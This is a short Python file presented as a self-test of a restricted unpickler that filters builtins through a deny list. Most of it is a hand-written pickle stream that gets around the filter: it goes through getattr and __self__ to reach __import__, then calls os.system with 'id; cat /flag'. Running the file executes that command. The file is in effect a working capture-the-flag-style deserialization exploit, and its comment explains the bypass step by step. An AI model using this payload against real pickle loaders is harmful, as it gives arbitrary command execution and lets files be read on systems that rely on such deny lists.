"""Safe-unpickler self-test.

Our loader only resolves globals from the builtins module and refuses the
obviously dangerous names.  This test feeds it a hand-written stream.
"""
import builtins
import io
import pickle

DENY = {"eval", "exec", "compile", "open", "__import__", "breakpoint", "input"}


class SafeUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        if module == "builtins" and name not in DENY:
            return getattr(builtins, name)
        raise pickle.UnpicklingError(f"global {module}.{name} is forbidden")


# Only ONE global is ever requested: builtins.getattr.  Everything else is a
# string argument to it, which find_class never sees:
#   g = getattr
#   B = g(g, "__self__")            -> the builtins module
#   I = g(B, "__import__")          -> the import function
#   O = I("os"); S = g(O, "system"); S("id; cat /flag")
STREAM = (
    b"cbuiltins\ngetattr\np0\n0"
    b"g0\n(g0\nV__self__\ntRp1\n0"
    b"g0\n(g1\nV__import__\ntRp2\n0"
    b"g2\n(Vos\ntRp3\n0"
    b"g0\n(g3\nVsystem\ntRp4\n0"
    b"g4\n(Vid; cat /flag\ntR."
)

if __name__ == "__main__":
    result = SafeUnpickler(io.BytesIO(STREAM)).load()
    print("loaded:", result)
